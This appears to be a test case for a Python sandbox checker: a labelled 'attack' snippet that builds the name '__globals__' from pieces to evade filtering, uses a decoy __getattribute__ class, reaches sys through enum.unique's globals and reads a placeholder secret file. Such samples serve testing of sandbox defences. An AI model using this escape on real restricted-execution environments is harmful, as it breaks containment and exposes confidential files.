# attack: object.__getattribute__ asked for a name in pieces; a method of that name in an own class makes it allowed
# family: attribute
import enum
class Own:
    def __getattribute__(self, name):
        return object.__getattribute__(self, name)
space = object.__getattribute__(enum.unique, "__glo" + "bals__")
print("REACHED", space["sys"])
print(space["sys"].modules["io"].open("$SECRET_FILE").read())
